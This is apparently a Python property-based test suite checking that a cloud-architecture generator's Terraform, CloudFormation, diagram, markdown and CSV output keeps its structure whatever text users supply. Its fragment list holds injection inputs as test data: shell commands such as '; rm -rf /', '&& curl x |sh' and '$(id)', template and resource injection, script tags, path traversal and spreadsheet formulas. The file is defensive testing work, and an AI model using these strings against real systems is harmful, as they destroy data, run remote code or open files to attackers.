"""Whatever stands in a name, a reason or a free option: every file has the structure that harmless words give it."""

import ast
import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from functools import cache
from pathlib import PurePosixPath
from typing import Any
from xml.etree import ElementTree

import hcl2
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from worker.architecture.catalogue import load_catalogue
from worker.architecture.cost import estimate
from worker.architecture.difference import difference
from worker.architecture.errors import EngineError
from worker.architecture.model import Architecture, Assumption, Component
from worker.architecture.options import DYNAMIC_REFERENCE
from worker.architecture.planner import plan
from worker.architecture.reading import read_requirements
from worker.architecture.revision import Version, version_files
from worker.architecture.validation import validate
from worker.render import cloudformation_yaml
from worker.render.bundle import manifest, pack
from worker.render.changes import render_changes
from worker.render.cloudformation import render_cloudformation
from worker.render.cost import render_cost
from worker.render.diagram import render_diagram
from worker.render.documents import render_documents
from worker.render.terraform import render_terraform

CATALOGUE = load_catalogue()
REQUEST = (
    "A web application on containers with RDS PostgreSQL, Redis, a Lambda worker on an SQS queue, file uploads to S3, "
    "Cognito, CloudFront, a WAF, alarms by e-mail and a dashboard."
)
PLAIN = "Plain words"
FRAGMENTS = (
    *('"', "'", "`", "\\", "\n", "\r\n", "\t", "\x00", "\x1b[31m", "\u2028", "\u202e", "é", "😀"),
    *(
        "${aws_db.x.password}",
        "%{ if true }",
        "$${",
        '"}\nresource "null_resource" "x" {}\n#',
        "/*",
        "*/",
        "<<EOF",
        "EOF",
    ),
    *(
        "\nResources:\n  Evil:\n    Type: AWS::IAM::User\n",
        "!Ref Evil",
        "{{",
        "}}",
        "{%",
        "*anchor",
        "&a",
        "- ",
        ": ",
        "#",
    ),
    *("; rm -rf /", "$(id)", "`id`", "&& curl x |sh", "| tee /etc/passwd", "--", "\nEOF\nid\n"),
    *(
        "<script>alert(1)</script>",
        "</text></svg>",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "&lt;",
        "&#x3c;",
        "javascript:x",
    ),
    *(
        "[x](http://evil.test)",
        "![x](http://evil.test/a.png)",
        "\n# Heading\n",
        "\n\n---\n",
        "| a | b |",
        "<http://e.test>",
    ),
    *(
        "\n```\n",
        "~~~",
        "http://evil.test",
        "www.evil.test",
        "../../../etc/passwd",
        "..\\..\\x",
        "C:\\x",
        "/etc/x",
        "\n>",
    ),
    *(
        "=cmd()",
        "+1",
        "@SUM(1)",
        "-1",
        "%0a",
        "a -> b: {\n",
        "}\n",
        "click a href",
        "subgraph x\nend",
        "::: x",
        "x" * 30,
    ),
)
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), min_size=1, max_size=5).map("".join)
MANY = settings(max_examples=6, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


@cache
def base() -> Architecture:
    return plan(read_requirements(REQUEST, catalogue=CATALOGUE), CATALOGUE)


def worded(text: str) -> Architecture:
    """The architecture with the text wherever it takes any text."""
    name = (text.replace(DYNAMIC_REFERENCE, "")[:60] or "x") if text.strip() else "x"
    return Architecture.model_validate(
        {
            **base().model_dump(),
            "title": name,
            "summary": text,
            "components": [{**one.model_dump(), "name": name, "because": text} for one in base().components],
            "connections": [{**one.model_dump(), "because": text} for one in base().connections],
            "assumptions": [Assumption(subject=text, value=text, reason=text, important=True).model_dump()],
        }
    )


def bundle(text: str) -> dict[str, bytes]:
    """Every file of a bundle, but the picture: the drawing that it is made of is there."""
    design = worded(text)
    validate(design, CATALOGUE)
    requirements = read_requirements(REQUEST, catalogue=CATALOGUE).model_copy(update={"request": text, "purpose": text})
    cost = estimate(design, CATALOGUE)
    files = {f"terraform/{name}": content for name, content in render_terraform(design, CATALOGUE).items()}
    files |= {f"cloudformation/{n}": content for n, content in render_cloudformation(design, CATALOGUE).items()}
    files |= render_diagram(design, CATALOGUE, png=False) | render_cost(cost)
    files |= render_documents(requirements, design, cost, CATALOGUE, files=files)
    chain = (Version(number=1, architecture=design), Version(number=2, instruction=text, architecture=design))
    found = difference((design, requirements), (design, requirements), CATALOGUE)
    return files | version_files(chain) | render_changes(found, chain, (), [text])


@cache
def harmless() -> dict[str, Any]:
    return structure(bundle(PLAIN))


def structure(files: dict[str, bytes]) -> dict[str, Any]:
    """What each file is made of, without the words in it."""
    return {_unnamed(name): _shape(name, _text(content)) for name, content in sorted(files.items())}


def _unnamed(path: str) -> str:
    """A record's file is called by what it decides: letters, digits and hyphens of it."""
    return re.sub(r"^(.*decisions/\d{4})-[a-z0-9-]+\.md$", r"\1.md", path)


def _text(content: bytes) -> str:
    """Of an archive its names; all else that we write is text."""
    if zipfile.is_zipfile(io.BytesIO(content)):
        return "\n".join(sorted(zipfile.ZipFile(io.BytesIO(content)).namelist()))
    return content.decode()


def _shape(name: str, text: str) -> Any:  # noqa: PLR0911 - one way to read each kind of file
    match PurePosixPath(name).suffix:
        case ".tf" | ".hcl" | ".tfvars":
            return Counter(_keys(hcl2.loads(text)))
        case ".yaml":
            return Counter(_keys(cloudformation_yaml.load(text)))
        case ".svg" | ".drawio":
            # Long names take more lines of text; of everything else there is as much.
            return Counter(tag for one in ElementTree.fromstring(text).iter() if not (tag := one.tag).endswith("}text"))
        case ".md":
            return _markdown(text)
        case ".py":
            return ast.dump(ast.parse(text)) if PLAIN not in text else Counter(map(type, ast.walk(ast.parse(text))))
        case ".csv":
            assert not re.search(r"(?m)^[=+@]|,[=+@]", text)
            return text.count("\n") if '"' not in text else None
        case ".d2":
            return Counter(re.findall(r"(?m)^\s*([\w.]+)(?=[:.] |:$| ->)", text))
        case ".mmd":
            return text.count("\n")
    return None


def _keys(value: Any, path: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "__comments__":
                continue  # long ones are broken into lines
            yield f"{path}/{key}"
            yield from _keys(item, f"{path}/{key}")
    elif isinstance(value, list):
        for item in value:
            yield from _keys(item, f"{path}[]")


def _markdown(text: str) -> Any:
    """Kinds of tokens, addresses of links and pictures, and everything that a reader might paste into a shell."""
    found: Counter[Any] = Counter()
    for token in MarkdownIt("commonmark").enable("table").parse(text):
        for one in (token, *(token.children or ())):
            if one.type in ("link_open", "image", "html_block", "html_inline", "heading_open", "hr"):
                found[one.type, _unnamed(str(one.attrs.get("href") or one.attrs.get("src") or ""))] += 1
            if one.type in ("fence", "code_block"):
                found[one.type, one.content] += 1
    return found


@MANY
@given(TEXTS)
@example("".join(FRAGMENTS[:13]))
@example('"}\nresource "null_resource" "x" {}\n#${self.x}%{ if true }')
@example("\nResources:\n  Evil:\n    Type: AWS::IAM::User\n")
@example("</text></svg><script>alert(1)</script>]]>-->")
@example("`id` $(id); rm -rf / [x](http://evil.test) <b>")
@example("../../../etc/passwd")
@example("a -> b: {\n}\nsubgraph x\nend")
def test_words_change_no_file_but_in_its_words(text: str) -> None:
    made, expected = structure(bundle(text)), harmless()
    assert made.keys() == expected.keys()
    wrong = {name for name, shape in made.items() if shape != expected[name] and None not in (shape, expected[name])}
    assert not wrong


@MANY
@given(TEXTS)
def test_paths_stay_inside_the_archive(text: str) -> None:
    files = bundle(text)
    with zipfile.ZipFile(io.BytesIO(pack({**files, "MANIFEST.json": manifest(files)}))) as packed:
        for name in packed.namelist():
            path = PurePosixPath(name)
            assert not path.is_absolute()
            assert ".." not in path.parts
            assert re.fullmatch(r"[\w./-]+", name)


def _free_options() -> list[tuple[str, str]]:
    return [
        (block.name, name)
        for block in CATALOGUE.blocks.values()
        for name, option in block.options.items()
        if option.type in ("string", "list") and option.choices is None
    ]


@pytest.mark.parametrize(("block", "option"), _free_options())
def test_a_free_option_is_refused_or_stays_text(block: str, option: str) -> None:
    kind = CATALOGUE.block(block).options[option].type
    plain = _alone(block, {})
    if plain is None:
        pytest.skip("it cannot stand alone")
    for text in ('"}\nresource "x" "y" {}\n#${a.b}%{if true}', "\nEvil:\n  Type: X\n'`$(id)`", "]]></svg>{{x}}{%y%}\\"):
        made = _alone(block, {option: [text] if kind == "list" else text})
        if made is not None:
            for mine, theirs in zip(made, plain, strict=True):
                assert not [key for key in mine - theirs if "/Evil" in key or '"x"' in key]
                assert all(re.fullmatch(r"/Resources/\w+", key) for key in mine if re.match(r"/Resources/[^/]*$", key))
                assert {key for key in mine if key.count("/") <= 3} >= {key for key in theirs if key.count("/") <= 2}


def _alone(block: str, options: dict[str, Any]) -> tuple[Counter[str], Counter[str]] | None:
    """The keys of both dialects; None where the catalogue refuses the options, or the block alone."""
    placed = CATALOGUE.block(block).placement.endswith("subnets")
    network = Component(id="network", block="vpc", name="Network")
    try:
        one = Component(id="one", block=block, name="One", options=options, network="network" if placed else None)
        components = (network, one) if placed else (one,)
        design = Architecture(title="T", project="shop", components=components, connections=())
        validate(design, CATALOGUE)
    except (EngineError, ValueError):
        return None
    hcl = "\n".join(
        content.decode() for name, content in render_terraform(design, CATALOGUE).items() if name.endswith(".tf")
    )
    template = render_cloudformation(design, CATALOGUE)["template.yaml"].decode()
    return Counter(_keys(hcl2.loads(hcl))), Counter(_keys(cloudformation_yaml.load(template)))
